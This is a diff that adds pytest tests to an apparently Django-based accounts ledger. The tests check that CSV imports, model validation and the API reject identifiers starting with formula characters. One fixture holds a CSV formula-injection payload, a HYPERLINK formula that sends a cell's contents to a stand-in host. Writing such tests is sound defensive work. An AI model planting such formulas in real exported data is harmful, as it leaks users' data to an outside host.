@@ -496,3 +496,44 @@ def test_a_large_import_refreshes_the_ledgers_planner_statistics(
         assert reltuples("accounts_taxlot") == TaxLot.objects.count() > 0
     else:
         assert reltuples("accounts_transaction") == before
+
+
+def test_formula_leading_identifiers_are_refused_with_their_line(books):
+    hyperlink = '=HYPERLINK("http://x.test/?"&A1)'
+    quoted = '"' + hyperlink.replace('"', '""') + '"'
+    text = (
+        "account_number,custodian,external_id,trade_date,kind,symbol,shares,amount,"
+        "lot_method,lot_ids\n"
+        "111,schwab,ok1,2023-01-05,buy,AAPL,1,150.00,,\n"
+        f"{quoted},schwab,x1,2023-01-05,buy,AAPL,1,150.00,,\n"
+        "111,schwab,@x2,2023-01-05,buy,AAPL,1,150.00,,\n"
+        "111,schwab,x3,2023-01-06,sell,AAPL,1,150.00,,-ok1:1\n"
+    )
+    counts = _counts()
+    report = _rejected(text)
+    by_line = {p.line: (p.field, p.reason) for p in report.problems}
+    assert by_line[3][0] == "account_number"
+    assert "starts with '='" in by_line[3][1]
+    assert "spreadsheets read them as formulas" in by_line[3][1]
+    assert by_line[4][0] == "external_id"
+    assert "starts with '@'" in by_line[4][1]
+    assert by_line[5][0] == "lot_ids"
+    assert "starts with '-'" in by_line[5][1]
+    assert 2 not in by_line
+    assert _counts() == counts
+
+
+def test_formula_leading_identifiers_are_refused_by_model_validation_and_the_api(books, firms):
+    from django.core.exceptions import ValidationError
+
+    from tests.conftest import api_client
+
+    account = books["joint"]
+    account.number = "+1-555"
+    with pytest.raises(ValidationError) as caught:
+        account.full_clean()
+    assert "number" in caught.value.message_dict
+    client = api_client(firms["a"], Role.FIRM_ADMIN)
+    response = client.post("/api/v1/models/", {"code": "@CORE", "name": "Core"}, format="json")
+    assert response.status_code == 400, response.content
+    assert "spreadsheets read them as formulas" in response.content.decode()
